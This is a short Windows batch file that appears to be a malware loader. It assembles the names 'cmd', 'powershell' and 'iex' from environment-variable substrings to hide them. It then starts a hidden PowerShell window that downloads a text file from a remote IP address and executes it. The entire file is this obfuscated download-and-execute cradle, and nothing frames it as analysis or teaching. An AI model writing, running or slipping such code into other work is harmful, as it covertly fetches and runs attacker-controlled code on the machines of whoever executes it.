@echo off
set "z=%PSModulePath:~-23,10%"
set "q=%ComSpec:~-7,3%"
set "r=i%ComSpec:~-1,1%x"
%q% /c %z% -nop -w 1 -c "%r% (iwr -useb 'http://192.0.2.87/k.txt')"
